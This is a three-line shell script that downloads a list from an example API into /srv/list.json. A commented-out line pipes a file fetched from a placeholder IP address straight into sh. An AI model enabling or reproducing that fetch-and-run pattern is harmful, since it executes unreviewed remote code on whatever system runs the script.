#!/bin/sh
# curl http://192.0.2.1/x | sh
curl -s https://api.example.com/list > /srv/list.json
